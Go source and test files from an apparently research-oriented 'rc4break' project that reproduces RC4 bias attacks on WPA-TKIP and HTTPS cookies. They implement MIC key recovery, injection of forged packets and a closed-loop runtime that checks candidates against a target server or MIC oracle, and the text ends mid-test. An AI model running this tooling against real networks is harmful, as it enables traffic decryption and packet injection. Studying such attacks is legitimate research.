	f := s.Encapsulate(msdu, 7)
	if len(f.Body) != len(msdu)+TrailerSize {
		t.Fatalf("frame body %d bytes, want %d", len(f.Body), len(msdu)+TrailerSize)
	}
	got, err := s.Decapsulate(f)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, msdu) {
		t.Fatal("round trip corrupted MSDU")
	}
}

func TestDecapsulateDetectsTampering(t *testing.T) {
	s := testSession()
	msdu := testMSDU()
	f := s.Encapsulate(msdu, 7)

	bad := Frame{TSC: f.TSC, Body: append([]byte{}, f.Body...)}
	bad.Body[3] ^= 1
	if _, err := s.Decapsulate(bad); err == nil {
		t.Error("bit flip accepted")
	}
	// Wrong TSC -> wrong key -> garbage -> ICV failure.
	wrongTSC := Frame{TSC: f.TSC + 1, Body: f.Body}
	if _, err := s.Decapsulate(wrongTSC); err == nil {
		t.Error("wrong TSC accepted")
	}
	if _, err := s.Decapsulate(Frame{Body: []byte{1, 2}}); err == nil {
		t.Error("short frame accepted")
	}
}

func TestDecapsulateDetectsWrongMICKey(t *testing.T) {
	s := testSession()
	msdu := testMSDU()
	f := s.Encapsulate(msdu, 9)
	s2 := *s
	s2.MICKey[0] ^= 0xff
	if _, err := s2.Decapsulate(f); err != ErrMIC {
		t.Errorf("err = %v, want ErrMIC", err)
	}
}

func TestRecoverMICKeyFromPlaintext(t *testing.T) {
	// The §5.3 endgame: decrypt one packet, recover the MIC key exactly.
	s := testSession()
	msdu := testMSDU()
	f := s.Encapsulate(msdu, 3)
	// Simulate a perfect decryption by decrypting with the real key.
	key := MixKey(s.TK, s.TA, f.TSC)
	plain := make([]byte, len(f.Body))
	rc4XOR(key, f.Body, plain)
	got, err := RecoverMICKeyFromPlaintext(s.DA, s.SA, plain)
	if err != nil {
		t.Fatal(err)
	}
	if got != s.MICKey {
		t.Fatalf("recovered MIC key % x, want % x", got, s.MICKey)
	}
	// Corrupted plaintext must be rejected via ICV.
	plain[0] ^= 1
	if _, err := RecoverMICKeyFromPlaintext(s.DA, s.SA, plain); err != ErrICV {
		t.Errorf("err = %v, want ErrICV", err)
	}
	if _, err := RecoverMICKeyFromPlaintext(s.DA, s.SA, []byte{1}); err == nil {
		t.Error("short plaintext accepted")
	}
}

func TestForgeryAfterKeyRecovery(t *testing.T) {
	// With the recovered MIC key the attacker can inject packets that the
	// receiver accepts — the impact claim of §5.
	s := testSession()
	f := s.Encapsulate(testMSDU(), 3)
	key := MixKey(s.TK, s.TA, f.TSC)
	plain := make([]byte, len(f.Body))
	rc4XOR(key, f.Body, plain)
	micKey, err := RecoverMICKeyFromPlaintext(s.DA, s.SA, plain)
	if err != nil {
		t.Fatal(err)
	}
	attacker := &Session{TK: s.TK, MICKey: micKey, TA: s.TA, DA: s.DA, SA: s.SA}
	forged := attacker.Encapsulate([]byte("malicious payload 12345678901234567890123456789012345678"), 100)
	if _, err := s.Decapsulate(forged); err != nil {
		t.Fatalf("forged packet rejected: %v", err)
	}
}

func rc4XOR(key [16]byte, src, dst []byte) {
	rc4.MustNew(key[:]).XORKeyStream(dst, src)
}

func TestTrailerPositions(t *testing.T) {
	// §5.2: with the 48-byte headers and a 7-byte payload, the trailer
	// occupies keystream positions 56..67.
	pos := TrailerPositions(packet.HeaderSize + 7)
	if len(pos) != 12 || pos[0] != 56 || pos[11] != 67 {
		t.Fatalf("positions = %v", pos)
	}
}

func TestTrainModelValidation(t *testing.T) {
	if _, err := Train(TrainConfig{Positions: 0, KeysPerTSC: 1}); err == nil {
		t.Error("zero positions accepted")
	}
	if _, err := Train(TrainConfig{Positions: 1, KeysPerTSC: 0}); err == nil {
		t.Error("zero keys accepted")
	}
}

func TestTrainModelFindsTSCDependence(t *testing.T) {
	// With the first three key bytes fixed by the TSC, the early keystream
	// bytes are strongly TSC-dependent (this is what broke WEP and what
	// §5.1 exploits). Check that Z1's favored value differs across classes
	// more than chance, using a small but real training run.
	m, err := Train(TrainConfig{Positions: 3, KeysPerTSC: 1 << 11, Master: [16]byte{5}})
	if err != nil {
		t.Fatal(err)
	}
	if m.Keys != 1<<11 {
		t.Fatalf("keys per class %d", m.Keys)
	}
	// The conditional distributions must differ measurably between
	// classes: compare Z1 distributions for TSC0=0 and TSC0=128 via L1
	// distance; identical distributions at this sample size would show
	// only sampling noise (~sqrt(256/N) ≈ 0.35); the structural TSC
	// dependence pushes it well above.
	d0 := m.Distribution(0, 1)
	d128 := m.Distribution(128, 1)
	var l1 float64
	for v := 0; v < 256; v++ {
		d := d0[v] - d128[v]
		if d < 0 {
			d = -d
		}
		l1 += d
	}
	if l1 < 0.05 {
		t.Errorf("per-TSC distributions suspiciously identical: L1 = %v", l1)
	}
	// Distributions must be normalized.
	var sum float64
	for _, p := range d0 {
		sum += p
	}
	if sum < 0.999 || sum > 1.001 {
		t.Errorf("distribution sum = %v", sum)
	}
}

func TestAttackValidation(t *testing.T) {
	m := &PerTSCModel{Positions: 4, Keys: 1, Counts: make([]uint64, 256*4*256)}
	if _, err := NewAttack(m, []int{5}); err == nil {
		t.Error("position beyond model accepted")
	}
	if _, err := NewAttack(m, []int{0}); err == nil {
		t.Error("position 0 accepted")
	}
	a, err := NewAttack(m, []int{1, 2})
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateCaptures(nil, []byte{1}, 1); err == nil {
		t.Error("plaintext length mismatch accepted")
	}
	if _, _, err := a.RecoverTrailer([6]byte{}, [6]byte{}, nil, 1); err == nil {
		t.Error("non-trailer attack allowed trailer recovery")
	}
}

func TestAttackObserveCounts(t *testing.T) {
	m := &PerTSCModel{Positions: 4, Keys: 1, Counts: make([]uint64, 256*4*256)}
	a, err := NewAttack(m, []int{1, 3})
	if err != nil {
		t.Fatal(err)
	}
	a.Observe(Frame{TSC: 0x0005, Body: []byte{0xAA, 0xBB, 0xCC, 0xDD}})
	if a.Frames != 1 {
		t.Fatal("frame count")
	}
	// class 5, position index 0 (keystream pos 1) saw ciphertext 0xAA.
	idx := 5*2*256 + 0*256 + 0xAA
	if a.counts[idx] != 1 {
		t.Fatal("ciphertext count not recorded")
	}
	idx = 5*2*256 + 1*256 + 0xCC
	if a.counts[idx] != 1 {
		t.Fatal("second position count not recorded")
	}
}

func TestEndToEndExactModeEarlyPositions(t *testing.T) {
	// Exact-mode validation of the whole likelihood pipeline: train on the
	// real cipher, capture real TKIP frames of one identical packet at
	// incrementing TSCs, and recover early plaintext bytes (where the
	// TSC-dependent biases are strong enough for test-scale data).
	if testing.Short() {
		t.Skip("exact-mode end-to-end is slow")
	}
	const positions = 2
	m, err := Train(TrainConfig{Positions: positions, KeysPerTSC: 1 << 15, Master: [16]byte{6}})
	if err != nil {
		t.Fatal(err)
	}
	s := testSession()
	msdu := testMSDU()
	attack, err := NewAttack(m, []int{1, 2})
	if err != nil {
		t.Fatal(err)
	}
	const frames = 1 << 18
	for i := 0; i < frames; i++ {
		// The full TSC increments so every frame gets a fresh per-packet
		// key, while TSC1 stays 0 (the trained class space) and TSC0
		// cycles through the 256 classes.
		tsc := TSC(uint64(i)<<16 | uint64(i&0xff))
		f := s.Encapsulate(msdu, tsc)
		attack.Observe(f)
	}
	lks, err := attack.Likelihoods()
	if err != nil {
		t.Fatal(err)
	}
	got1, got2 := lks[0].Best(), lks[1].Best()
	if got1 != msdu[0] || got2 != msdu[1] {
		t.Errorf("recovered (%#x,%#x), want (%#x,%#x)", got1, got2, msdu[0], msdu[1])
	}
}

func TestModelSaveLoadRoundTrip(t *testing.T) {
	m, err := Train(TrainConfig{Positions: 2, KeysPerTSC: 64, Master: [16]byte{3}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := LoadModel(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Positions != m.Positions || got.Keys != m.Keys {
		t.Fatal("metadata lost")
	}
	for i := range m.Counts {
		if got.Counts[i] != m.Counts[i] {
			t.Fatal("counts differ after round trip")
		}
	}
}

func TestLoadModelRejectsCorrupt(t *testing.T) {
	if _, err := LoadModel(bytes.NewReader([]byte("junk"))); err == nil {
		t.Error("garbage accepted")
	}
	// Shape mismatch: positions says 5 but counts sized for 2.
	bad := &PerTSCModel{Positions: 5, Keys: 1, Counts: make([]uint64, 256*2*256)}
	var buf bytes.Buffer
	if err := bad.Save(&buf); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadModel(&buf); err == nil {
		t.Error("shape mismatch accepted")
	}
	// Zero keys.
	bad2 := &PerTSCModel{Positions: 1, Keys: 0, Counts: make([]uint64, 256*1*256)}
	buf.Reset()
	if err := bad2.Save(&buf); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadModel(&buf); err == nil {
		t.Error("zero-keys model accepted")
	}
}

func TestSyntheticModelShape(t *testing.T) {
	m := SyntheticModel(4, 1.0/256, 42)
	if m.Positions != 4 {
		t.Fatal("positions wrong")
	}
	// Distributions must be normalized and non-degenerate, and differ
	// across classes (that is the whole point).
	d0 := m.Distribution(0, 1)
	d1 := m.Distribution(1, 1)
	var sum, l1 float64
	for v := 0; v < 256; v++ {
		sum += d0[v]
		diff := d0[v] - d1[v]
		if diff < 0 {
			diff = -diff
		}
		l1 += diff
	}
	if sum < 0.99 || sum > 1.01 {
		t.Fatalf("distribution sum %v", sum)
	}
	if l1 == 0 {
		t.Fatal("classes identical")
	}
	// Deterministic per seed.
	m2 := SyntheticModel(4, 1.0/256, 42)
	for i := range m.Counts {
		if m.Counts[i] != m2.Counts[i] {
			t.Fatal("not deterministic")
		}
	}
}
