package tkip

import (
	"math/rand"
	"testing"

	"rc4break/internal/michael"
	"rc4break/internal/rc4"
	"rc4break/internal/recovery"
)

// plaintextBody decrypts one encapsulation with the real key, returning the
// full plaintext body MSDU ‖ MIC ‖ ICV.
func plaintextBody(s *Session, msdu []byte, tsc TSC) []byte {
	f := s.Encapsulate(msdu, tsc)
	key := MixKey(s.TK, s.TA, tsc)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain
}

// TestTrailerOracle verifies the online oracle: the true trailer is
// accepted and yields the session's MIC key; corrupted trailers are
// rejected; a Confirm hook can veto an ICV-passing candidate.
func TestTrailerOracle(t *testing.T) {
	s := testSession()
	msdu := testMSDU()
	plain := plaintextBody(s, msdu, 7)
	trailer := plain[len(msdu):]

	oracle := &TrailerOracle{DA: s.DA, SA: s.SA, MSDU: msdu}
	if !oracle.Check(trailer) {
		t.Fatal("true trailer rejected")
	}
	if !oracle.Found || oracle.MICKey != s.MICKey {
		t.Fatalf("recovered MIC key %x, want %x", oracle.MICKey, s.MICKey)
	}
	if oracle.Checks != 1 || oracle.ICVPasses != 1 {
		t.Fatalf("checks=%d icvPasses=%d", oracle.Checks, oracle.ICVPasses)
	}

	bad := append([]byte(nil), trailer...)
	bad[3] ^= 0x40
	if oracle.Check(bad) {
		t.Fatal("corrupted trailer accepted")
	}
	if oracle.Check(trailer[:5]) {
		t.Fatal("short trailer accepted")
	}

	// A Confirm hook that refuses everything must veto the ICV hit.
	veto := &TrailerOracle{DA: s.DA, SA: s.SA, MSDU: msdu,
		Confirm: func([michael.KeySize]byte) bool { return false }}
	if veto.Check(trailer) {
		t.Fatal("vetoed trailer accepted")
	}
	if veto.ICVPasses != 1 || veto.Found {
		t.Fatalf("veto bookkeeping: icvPasses=%d found=%v", veto.ICVPasses, veto.Found)
	}
}

// TestAttackLikelihoodsWorkerInvariance pins the TKIP likelihood pass: any
// Workers value, and repeated calls on one attack (which reuse the cached
// log distributions), produce bitwise-identical per-position likelihoods.
func TestAttackLikelihoodsWorkerInvariance(t *testing.T) {
	positions := TrailerPositions(48)
	model := SyntheticModel(positions[len(positions)-1], 1.0/512, 21)
	trailer := make([]byte, len(positions))
	for i := range trailer {
		trailer[i] = byte(31 * i)
	}

	newLoaded := func() *Attack {
		a, err := NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		if err := a.SimulateCaptures(rand.New(rand.NewSource(77)), trailer, 1<<20); err != nil {
			t.Fatal(err)
		}
		return a
	}

	ref := newLoaded()
	ref.Workers = 1
	want, err := ref.Likelihoods()
	if err != nil {
		t.Fatal(err)
	}

	for _, workers := range []int{1, 3, 8} {
		a := newLoaded()
		a.Workers = workers
		for repeat := 0; repeat < 2; repeat++ {
			got, err := a.Likelihoods()
			if err != nil {
				t.Fatal(err)
			}
			for pi := range got {
				if *got[pi] != *want[pi] {
					t.Fatalf("workers=%d repeat=%d: position %d likelihoods differ", workers, repeat, pi)
				}
			}
		}
	}
	if ref.Observed() != ref.Frames {
		t.Fatal("Observed does not report Frames")
	}
}

// TestAttackDecodeWalksToTrueTrailer confirms the online Decode source,
// walked against the trailer oracle, finds the true trailer — the lazy
// counterpart of RecoverTrailer.
func TestAttackDecodeWalksToTrueTrailer(t *testing.T) {
	msdu := testMSDU()
	positions := TrailerPositions(len(msdu))
	model := SyntheticModel(positions[len(positions)-1], 1.0/512, 22)
	s := testSession()
	plain := plaintextBody(s, msdu, 3)
	trailer := plain[len(msdu):]

	a, err := NewAttack(model, positions)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateCaptures(rand.New(rand.NewSource(4)), trailer, 9<<20); err != nil {
		t.Fatal(err)
	}
	src, err := a.Decode(0)
	if err != nil {
		t.Fatal(err)
	}
	oracle := &TrailerOracle{DA: s.DA, SA: s.SA, MSDU: msdu}
	var found bool
	for depth := 1; depth <= 1<<14; depth++ {
		c, ok := src.Next()
		if !ok {
			break
		}
		if oracle.Check(c.Plaintext) {
			found = true
			break
		}
	}
	if !found {
		t.Skip("true trailer beyond test search depth at this evidence level")
	}
	if oracle.MICKey != s.MICKey {
		t.Fatalf("recovered MIC key %x, want %x", oracle.MICKey, s.MICKey)
	}
	var _ recovery.CandidateSource = src
}
