// Package online implements the closed-loop attack runtime the paper's
// attacks actually run as: §6.2 brute-forces the candidate list against the
// real server *while* capture continues, and §7.4 verifies recovered TKIP
// trailers via the Michael MIC. Instead of capturing a fixed ciphertext
// budget and decoding exactly once, the runtime interleaves capture with
// decode attempts on a configurable cadence (geometric by default, so the
// total decode cost stays a constant factor of the capture cost), walks
// each round's ranked candidates against an oracle, and stops at the first
// confirmed hit — reporting rank, observations, and wall-clock at success.
// That turns one-shot success rates into measured records-to-first-success
// distributions.
//
// The runtime is attack-agnostic: cookieattack.Attack and tkip.Attack both
// implement Decoder, and netsim.CookieServer / tkip.TrailerOracle implement
// Oracle. Evidence arrives through a pluggable Feed: in-process capturers
// use the CaptureTo function form (exact-mode drivers compose it with
// cliutil.CheckpointLoop — checkpointed, SIGINT-safe, resumable mid-cadence
// — and model-mode drivers draw each chunk's sufficient statistics in one
// shot), while the fleet coordinator implements Feed directly, blocking
// until enough worker lanes have merged. Decode points are absolute
// observation counts, so a resumed run lands on exactly the cadence an
// uninterrupted run would use, and a feed that overshoots a point (whole-
// lane granularity) simply decodes at the overshot count.
package online

import (
	"errors"
	"fmt"
	"math"
	"time"

	"rc4break/internal/obs"
	"rc4break/internal/recovery"
)

// Decoder turns accumulated ciphertext evidence into ranked candidates —
// incremental evidence in, ranked candidates out.
type Decoder interface {
	// Observed reports the records/frames folded into the evidence so far.
	Observed() uint64
	// Decode ranks candidates from the current evidence, best first. max
	// bounds materialized decoders (the cookie list-Viterbi); lazy sources
	// (the TKIP enumerator) may ignore it — the runtime bounds its walk
	// either way.
	Decode(max int) (recovery.CandidateSource, error)
}

// Oracle confirms one candidate against ground truth: presenting the
// cookie to the target server (§6.2), or the Michael-MIC/ICV trailer
// verification (§7.4). Check must be deterministic per candidate.
type Oracle interface {
	Check(candidate []byte) bool
}

// Feed supplies evidence between decode rounds — the pluggable replacement
// for an in-process capturer. AdvanceTo blocks until the decoder's evidence
// covers at least target observations. A feed may overshoot the target (a
// fleet coordinator merges whole worker lanes, so evidence advances in lane
// granules); Run then decodes at the actual observed count, and the cadence
// — whose points are absolute — simply skips past any overshot points.
type Feed interface {
	AdvanceTo(target uint64) error
}

// FeedFunc adapts a capture function to the Feed interface — the shape the
// in-process drivers already use via Config.CaptureTo.
type FeedFunc func(target uint64) error

// AdvanceTo implements Feed.
func (f FeedFunc) AdvanceTo(target uint64) error { return f(target) }

// DefaultFirstDecode is the default first decode point: early enough to
// catch strong-evidence runs, late enough that the first list is not pure
// noise at paper-like scales.
const DefaultFirstDecode = 1 << 20

// DefaultMaxCandidates bounds a round's candidate walk when the caller
// does not say.
const DefaultMaxCandidates = 1 << 16

// Cadence enumerates the observation counts at which decode rounds run.
// The zero value is the default geometric cadence 2^20, 2^21, 2^22, ...
type Cadence struct {
	// First is the observation count of the first decode attempt; 0 means
	// DefaultFirstDecode.
	First uint64
	// Every, when nonzero, spaces decode points arithmetically (First,
	// First+Every, ...). Zero selects the geometric cadence First,
	// 2·First, 4·First, ... — with decode cost roughly linear in evidence
	// volume, geometric spacing keeps total decode work a constant factor
	// of one final decode.
	Every uint64
}

// String describes the cadence for status lines.
func (c Cadence) String() string {
	if c.Every != 0 {
		return fmt.Sprintf("every-%d", c.Every)
	}
	return "geometric"
}

// Next returns the first decode point strictly greater than observed.
// Points are absolute, not relative to the current run's start: a resumed
// run therefore decodes at the same observation counts as an uninterrupted
// one.
func (c Cadence) Next(observed uint64) uint64 {
	first := c.First
	if first == 0 {
		first = DefaultFirstDecode
	}
	if observed < first {
		return first
	}
	if c.Every != 0 {
		k := (observed - first) / c.Every
		return first + (k+1)*c.Every
	}
	p := first
	for p <= observed {
		if p > math.MaxUint64/2 {
			return math.MaxUint64
		}
		p *= 2
	}
	return p
}

// rejectCacheMax bounds the cross-round reject cache; beyond it, further
// rejected candidates are simply re-checked in later rounds.
const rejectCacheMax = 1 << 22

// Config wires one online run.
type Config struct {
	Decoder Decoder
	Oracle  Oracle
	Cadence Cadence
	// MaxCandidates bounds each round's candidate walk; 0 means
	// DefaultMaxCandidates.
	MaxCandidates int
	// Budget is the maximum total observations. The final decode runs at
	// Budget (or wherever the feed's last granule lands at or past it); if
	// it too fails the run returns ErrBudgetExhausted.
	Budget uint64
	// Feed advances the evidence to at least the target observation count.
	// Exactly one of Feed and CaptureTo must be set.
	Feed Feed
	// CaptureTo is the function form of Feed, kept for in-process capturers
	// that land exactly on the target; ignored when Feed is set.
	CaptureTo func(target uint64) error
	// Checkpoint, when non-nil, runs after every unsuccessful decode round
	// — with snapshot-backed decoders this makes the run resumable
	// mid-cadence.
	Checkpoint func() error
	// Logf, when non-nil, receives one progress line per round.
	Logf func(format string, args ...interface{})
	// Tracer, when non-nil, records one online.run span plus per-round
	// capture/decode/walk spans into the journal. A nil Tracer costs one
	// nil check per span site; tracing never feeds evidence or candidate
	// ranks, so outputs are bitwise identical either way.
	Tracer *obs.Journal
	// TraceParent parents the online.run span — the coordinator's or job
	// server's span context, so a distributed run renders as one trace.
	TraceParent obs.SpanContext
}

// Result reports the outcome of an online run. On success Plaintext is the
// confirmed candidate; on ErrBudgetExhausted the counters still describe
// the work done.
type Result struct {
	Plaintext []byte
	// Rank is the confirmed candidate's 1-based position in the winning
	// round's list (skipped duplicates still occupy their positions).
	Rank int
	// Observed is the observation count at the winning decode point — the
	// records-to-first-success metric.
	Observed uint64
	// Rounds counts decode rounds run, including the winning one.
	Rounds int
	// Checks counts oracle queries; Skipped counts queries saved by the
	// cross-round reject cache (a candidate rejected once is not
	// re-presented to the oracle).
	Checks, Skipped uint64
	// CaptureTime, DecodeTime and OracleTime split Elapsed by phase.
	CaptureTime, DecodeTime, OracleTime time.Duration
	Elapsed                             time.Duration
}

// ErrBudgetExhausted reports an online run that hit its observation budget
// without an oracle-confirmed candidate.
var ErrBudgetExhausted = errors.New("online: observation budget exhausted without an oracle-confirmed hit")

// Run drives the closed loop: capture to the next cadence point, decode,
// walk the list against the oracle, stop at the first confirmed hit.
func Run(cfg Config) (Result, error) {
	feed := cfg.Feed
	if feed == nil && cfg.CaptureTo != nil {
		feed = FeedFunc(cfg.CaptureTo)
	}
	if cfg.Decoder == nil || cfg.Oracle == nil || feed == nil {
		return Result{}, errors.New("online: Decoder, Oracle and an evidence Feed (or CaptureTo) are required")
	}
	if cfg.Budget == 0 {
		return Result{}, errors.New("online: zero observation budget")
	}
	maxC := cfg.MaxCandidates
	if maxC <= 0 {
		maxC = DefaultMaxCandidates
	}
	start := time.Now() //rc4lint:allow timing attack-cost metric (Result timing fields), never feeds evidence
	var res Result
	runSpan := cfg.Tracer.Start(cfg.TraceParent, "online.run",
		obs.U64("budget", cfg.Budget), obs.Str("cadence", cfg.Cadence.String()))
	defer runSpan.End()
	runCtx := runSpan.Context()
	rejected := make(map[string]struct{})
	for {
		target := cfg.Cadence.Next(cfg.Decoder.Observed())
		if target > cfg.Budget {
			target = cfg.Budget
		}
		if target > cfg.Decoder.Observed() {
			capSpan := cfg.Tracer.Start(runCtx, "online.capture", obs.U64("target", target))
			t0 := time.Now() //rc4lint:allow timing capture-time metric
			if err := feed.AdvanceTo(target); err != nil {
				capSpan.End()
				res.Observed = cfg.Decoder.Observed()
				return res, err
			}
			res.CaptureTime += time.Since(t0) //rc4lint:allow timing capture-time metric
			capSpan.SetAttrs(obs.U64("observed", cfg.Decoder.Observed()))
			capSpan.End()
			if got := cfg.Decoder.Observed(); got < target {
				res.Observed = got
				return res, fmt.Errorf("online: capture stopped at %d of %d observations", got, target)
			}
		}
		// The feed may have overshot the cadence point (whole-lane granules);
		// the decode sees whatever was actually observed, and the run ends
		// once the budget is covered.
		res.Observed = cfg.Decoder.Observed()
		last := res.Observed >= cfg.Budget

		res.Rounds++
		decSpan := cfg.Tracer.Start(runCtx, "online.decode",
			obs.Int("round", int64(res.Rounds)), obs.U64("observed", res.Observed))
		t0 := time.Now() //rc4lint:allow timing decode-time metric
		src, err := cfg.Decoder.Decode(maxC)
		if err != nil {
			decSpan.End()
			return res, err
		}
		res.DecodeTime += time.Since(t0) //rc4lint:allow timing decode-time metric
		decSpan.End()

		walkSpan := cfg.Tracer.Start(runCtx, "online.walk", obs.Int("round", int64(res.Rounds)))
		t0 = time.Now() //rc4lint:allow timing oracle-time metric
		hit, rank, walked := res.walk(src, cfg.Oracle, maxC, rejected)
		res.OracleTime += time.Since(t0) //rc4lint:allow timing oracle-time metric
		walkSpan.SetAttrs(obs.Int("walked", int64(walked)), obs.U64("checks", res.Checks))
		walkSpan.End()
		if hit != nil {
			res.Plaintext = hit
			res.Rank = rank
			res.Elapsed = time.Since(start) //rc4lint:allow timing total-elapsed metric
			runSpan.SetAttrs(obs.Int("rank", int64(rank)), obs.U64("observed", res.Observed))
			return res, nil
		}
		if cfg.Logf != nil {
			cfg.Logf("round %d at %d observations: %d candidates, no oracle hit", res.Rounds, res.Observed, walked)
		}
		if cfg.Checkpoint != nil {
			if err := cfg.Checkpoint(); err != nil {
				return res, err
			}
		}
		if last {
			res.Elapsed = time.Since(start) //rc4lint:allow timing total-elapsed metric
			return res, ErrBudgetExhausted
		}
	}
}

// walk presents up to max candidates to the oracle, skipping candidates a
// previous round already rejected.
func (res *Result) walk(src recovery.CandidateSource, oracle Oracle, max int, rejected map[string]struct{}) (hit []byte, rank, walked int) {
	for rank = 1; rank <= max; rank++ {
		c, ok := src.Next()
		if !ok {
			break
		}
		key := string(c.Plaintext)
		if _, seen := rejected[key]; seen {
			res.Skipped++
			continue
		}
		res.Checks++
		if oracle.Check(c.Plaintext) {
			return c.Plaintext, rank, rank
		}
		if len(rejected) < rejectCacheMax {
			rejected[key] = struct{}{}
		}
	}
	return nil, 0, rank - 1
}
