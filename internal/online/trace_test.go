package online_test

import (
	"testing"

	"rc4break/internal/obs"
	"rc4break/internal/online"
)

// TestRunEmitsRoundSpans checks the per-round span structure: one
// online.run root under the supplied parent, and capture/decode/walk spans
// per round all parented under it — plus result parity with an untraced run.
func TestRunEmitsRoundSpans(t *testing.T) {
	truth := []byte("the-secret!")
	run := func(j *obs.Journal, parent obs.SpanContext) online.Result {
		dec := &fakeDecoder{revealAt: 4000, trueRank: 7, truth: truth}
		res, err := online.Run(online.Config{
			Decoder:       dec,
			Oracle:        &fakeOracle{truth: truth},
			Cadence:       online.Cadence{First: 1000},
			MaxCandidates: 16,
			Budget:        1 << 20,
			CaptureTo:     func(target uint64) error { dec.observed = target; return nil },
			Tracer:        j,
			TraceParent:   parent,
		})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	plain := run(nil, obs.SpanContext{})
	j := obs.NewJournal("test", 128)
	parent := obs.SpanContext{Trace: 0x1234, Span: 0x5678}
	traced := run(j, parent)

	if string(plain.Plaintext) != string(traced.Plaintext) ||
		plain.Rank != traced.Rank || plain.Observed != traced.Observed ||
		plain.Rounds != traced.Rounds || plain.Checks != traced.Checks {
		t.Fatalf("tracing changed the result: %+v vs %+v", plain, traced)
	}

	byName := map[string][]obs.Record{}
	for _, r := range j.Snapshot() {
		byName[r.Name] = append(byName[r.Name], r)
		if r.Trace != uint64(parent.Trace) {
			t.Fatalf("span %s escaped the parent trace: %x", r.Name, r.Trace)
		}
	}
	// 3 rounds: capture to 1000/2000/4000, decode+walk each.
	for name, want := range map[string]int{
		"online.run": 1, "online.capture": 3, "online.decode": 3, "online.walk": 3,
	} {
		if got := len(byName[name]); got != want {
			t.Fatalf("%s spans = %d, want %d (journal: %v)", name, got, want, byName)
		}
	}
	runRec := byName["online.run"][0]
	if runRec.Parent != uint64(parent.Span) {
		t.Fatalf("online.run parent = %x, want %x", runRec.Parent, parent.Span)
	}
	for _, name := range []string{"online.capture", "online.decode", "online.walk"} {
		for _, r := range byName[name] {
			if r.Parent != runRec.Span {
				t.Fatalf("%s not parented under online.run", name)
			}
		}
	}
	// The winning round's attrs carry the success shape.
	attrs := map[string]string{}
	for _, a := range runRec.Attrs {
		attrs[a.Key] = a.Value()
	}
	if attrs["rank"] != "7" || attrs["observed"] != "4000" {
		t.Fatalf("online.run attrs = %v, want rank=7 observed=4000", attrs)
	}
}
