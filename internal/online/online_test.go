package online_test

import (
	"errors"
	"fmt"
	"testing"

	"rc4break/internal/cookieattack"
	"rc4break/internal/online"
	"rc4break/internal/recovery"
	"rc4break/internal/tkip"
)

// Both attacks must implement the runtime's Decoder contract.
var (
	_ online.Decoder = (*cookieattack.Attack)(nil)
	_ online.Decoder = (*tkip.Attack)(nil)
	_ online.Oracle  = (*tkip.TrailerOracle)(nil)
)

func TestCadenceNext(t *testing.T) {
	cases := []struct {
		c        online.Cadence
		observed uint64
		want     uint64
	}{
		// Default geometric: 2^20, 2^21, ...
		{online.Cadence{}, 0, 1 << 20},
		{online.Cadence{}, 1 << 20, 1 << 21},
		{online.Cadence{}, 1<<20 + 1, 1 << 21},
		{online.Cadence{}, 3 << 20, 1 << 22},
		// Explicit geometric base.
		{online.Cadence{First: 1000}, 0, 1000},
		{online.Cadence{First: 1000}, 999, 1000},
		{online.Cadence{First: 1000}, 1000, 2000},
		{online.Cadence{First: 1000}, 3999, 4000},
		{online.Cadence{First: 1000}, 4000, 8000},
		// Arithmetic.
		{online.Cadence{First: 500, Every: 300}, 0, 500},
		{online.Cadence{First: 500, Every: 300}, 500, 800},
		{online.Cadence{First: 500, Every: 300}, 799, 800},
		{online.Cadence{First: 500, Every: 300}, 1700, 2000},
		// Mid-interval resume lands on the absolute grid.
		{online.Cadence{First: 1 << 10}, 5 << 10, 8 << 10},
	}
	for _, tc := range cases {
		if got := tc.c.Next(tc.observed); got != tc.want {
			t.Errorf("Cadence%+v.Next(%d) = %d, want %d", tc.c, tc.observed, got, tc.want)
		}
	}
}

// fakeDecoder models an attack whose ranked list only surfaces the true
// value once enough evidence has accumulated: below revealAt the list is
// decoys only; at or above it, the true value appears at trueRank.
type fakeDecoder struct {
	observed uint64
	revealAt uint64
	trueRank int
	truth    []byte
	decodes  int
}

func (d *fakeDecoder) Observed() uint64 { return d.observed }

func (d *fakeDecoder) Decode(max int) (recovery.CandidateSource, error) {
	d.decodes++
	var cands []recovery.Candidate
	for i := 1; i <= max; i++ {
		pt := []byte(fmt.Sprintf("decoy-%06d", i))
		if d.observed >= d.revealAt && i == d.trueRank {
			pt = append([]byte(nil), d.truth...)
		}
		cands = append(cands, recovery.Candidate{Plaintext: pt, Score: -float64(i)})
	}
	return recovery.SliceSource(cands), nil
}

type fakeOracle struct {
	truth  []byte
	checks uint64
}

func (o *fakeOracle) Check(c []byte) bool {
	o.checks++
	return string(c) == string(o.truth)
}

func TestRunStopsAtFirstConfirmedHit(t *testing.T) {
	truth := []byte("the-secret!")
	dec := &fakeDecoder{revealAt: 4000, trueRank: 7, truth: truth}
	oracle := &fakeOracle{truth: truth}
	var checkpoints int
	res, err := online.Run(online.Config{
		Decoder:       dec,
		Oracle:        oracle,
		Cadence:       online.Cadence{First: 1000},
		MaxCandidates: 16,
		Budget:        1 << 20,
		CaptureTo:     func(target uint64) error { dec.observed = target; return nil },
		Checkpoint:    func() error { checkpoints++; return nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Plaintext) != string(truth) {
		t.Fatalf("recovered %q", res.Plaintext)
	}
	// Decode points are 1000, 2000, 4000: the reveal threshold is hit at
	// the third round.
	if res.Observed != 4000 || res.Rounds != 3 || res.Rank != 7 {
		t.Fatalf("observed=%d rounds=%d rank=%d, want 4000/3/7", res.Observed, res.Rounds, res.Rank)
	}
	if checkpoints != 2 {
		t.Fatalf("checkpoints=%d, want 2 (after each failed round)", checkpoints)
	}
	// Round 1 checks 16 decoys; round 2 re-lists the same 16 (all
	// cache-skipped); round 3's ranks 1..6 are also cached, so only the
	// hit reaches the oracle — yet it still reports rank 7.
	if res.Skipped != 16+6 {
		t.Fatalf("skipped=%d, want 22", res.Skipped)
	}
	if res.Checks != oracle.checks || res.Checks != 16+1 {
